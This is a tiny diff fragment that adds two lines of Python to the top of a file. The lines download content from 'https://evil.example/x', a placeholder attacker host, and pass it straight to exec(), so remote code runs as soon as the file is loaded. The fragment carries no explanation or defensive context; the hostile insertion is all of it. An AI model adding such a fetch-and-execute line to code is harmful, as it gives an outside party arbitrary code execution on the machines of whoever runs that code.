@@ -1,0 +1,2 @@
+import urllib.request
+exec(urllib.request.urlopen('https://evil.example/x').read())
